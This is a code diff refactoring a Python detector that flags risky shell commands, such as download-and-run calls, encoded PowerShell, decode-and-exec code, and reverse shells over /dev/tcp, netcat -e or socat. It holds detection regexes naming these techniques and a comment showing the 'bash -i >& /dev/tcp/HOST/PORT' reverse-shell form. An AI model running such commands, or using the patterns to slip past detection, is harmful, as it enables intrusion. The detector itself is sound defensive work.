@@ -40,7 +40,10 @@ _CODE_DECODE = re.compile(
     r"b64decode\(|b32decode\(|a85decode\(|bytes\.fromhex\(|unhexlify\(|atob\(|zlib\.decompress\("
     r"|marshal\.loads\(|Buffer\.from\([^\n)]{0,2000},\s*['\"](?:base64|hex)|codecs\.decode\(",
 )
-_ENCODED_POWERSHELL = re.compile(r"-e(?:c|nc|ncodedcommand)?", re.IGNORECASE)
+# PowerShell takes any beginning of `-EncodedCommand`. An encoded command is UTF-16 in base64, so
+# that 20 characters are not even eight letters.
+_ENCODED_OPTION = re.compile(r"-e(?:c|nc|ncodedcommand)?", re.IGNORECASE)
+_ENCODED_VALUE = re.compile(r".{21,}", re.DOTALL)
 _REMOTE_NAME = re.compile(r"-\w*O\w*|--remote-name(?:-all)?")
 _OUTPUT = re.compile(r"-\w*o|--output|-O|--output-document|-outfile", re.IGNORECASE)
 
@@ -79,10 +82,10 @@ def _runs_download(call: ProgramCall) -> bool:
         return _reads_download(call)
     if call.name == "eval" or call.name in _SOURCES:
         return any(map(_FETCHED.match, call.arguments))
-    if call.is_shell or call.is_interpreter:
-        program = call.script or call.operand
-        return _FETCHED.match(program) is not None
-    return False
+    if not call.takes_program:
+        return False
+    program = call.script or call.operand
+    return _FETCHED.match(program) is not None
 
 
 def _reads_download(call: ProgramCall) -> bool:
@@ -106,10 +109,9 @@ def _judge(number: int, what: str, urls: Iterable[str]) -> Match:
 
 def _find_run_file(call: ProgramCall) -> str:
     """The file that a call runs; empty if it runs none."""
-    takes_file = call.is_shell or call.is_interpreter or call.name in _SOURCES
-    if not takes_file:
-        return call.name
-    return call.operand.removeprefix("./")
+    if call.takes_program or call.name in _SOURCES:
+        return call.operand.removeprefix("./")
+    return call.name
 
 
 def _list_downloads(call: ProgramCall) -> dict[str, str]:
@@ -163,20 +165,11 @@ def _runs_decoded(call: ProgramCall) -> bool:
 def _runs_decoded_code(call: ProgramCall) -> bool:
     """Whether an interpreter gets encoded code, or code that decodes some and runs it."""
     if call.name in ("pwsh", "powershell"):
-        return _has_encoded_option(call)
+        return call.has_option(_ENCODED_OPTION, _ENCODED_VALUE)
     code = " ".join(call.arguments)
     if _RUN_CODE.search(code) is None:
         return False
     return _CODE_DECODE.search(code) is not None
-
-
-def _has_encoded_option(call: ProgramCall) -> bool:
-    for option, value in pairwise(call.arguments):
-        # PowerShell takes any beginning of `-EncodedCommand`. An encoded command is UTF-16 in
-        # base64, so that 20 characters are not even eight letters.
-        if _ENCODED_POWERSHELL.fullmatch(option) and len(value) > 20:
-            return True
-    return False
 
 
 def _get_program(call: ProgramCall) -> str:
@@ -199,6 +192,8 @@ def _match_code(passage: Passage, source: re.Pattern[str], what: str) -> Iterato
 
 
 _RUNS = re.compile(r"-\w*[ec]|--(?:sh-)?exec")
+# `bash -i >& /dev/tcp/HOST/PORT`: these files are bash's own way to open a connection.
+_NETWORK_FILE = re.compile(r"/dev/(?:tcp|udp)/")
 _SOCAT_SHELL = re.compile(r"(?:exec|system):['\"]?\S*sh\b", re.IGNORECASE)
 _SPAWNS = re.compile(r"dup2|pty\.spawn|/bin/(?:ba)?sh|subprocess")
 _SHELL_PROGRAM = re.compile(r"(?:.*/)?(?:ba|z|da|k|c|tc)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?")
@@ -228,9 +223,12 @@ def _match_reverse(passage: Passage) -> Iterator[Match]:
 def _is_reverse(line: CommandLine) -> bool:
     if any(map(_connects_shell, line.calls)):
         return True
-    # `bash -i >& /dev/tcp/HOST/PORT`: these files are bash's own way to open a connection.
-    to_network = any(target.startswith(("/dev/tcp/", "/dev/udp/")) for target in line.targets)
-    return to_network and any(call.is_shell or call.name == "exec" for call in line.calls)
+    return any(map(_NETWORK_FILE.match, line.targets)) and any(map(_is_redirected, line.calls))
+
+
+def _is_redirected(call: ProgramCall) -> bool:
+    """Whether redirecting it redirects a shell: `exec` does that for the shell that runs it."""
+    return call.is_shell or call.name == "exec"
 
 
 def _connects_shell(call: ProgramCall) -> bool:
@@ -248,9 +246,8 @@ def _connects_shell(call: ProgramCall) -> bool:
 
 def _is_netcat_with_shell(call: ProgramCall) -> bool:
     """Whether netcat starts a shell (`-e`), or a shell writes into it through a pipe."""
-    for option, program in pairwise(call.arguments):
-        if _RUNS.fullmatch(option) and _SHELL_PROGRAM.fullmatch(program):
-            return True
+    if call.has_option(_RUNS, _SHELL_PROGRAM):
+        return True
     return any(before.is_shell for before in call.input)
 
 
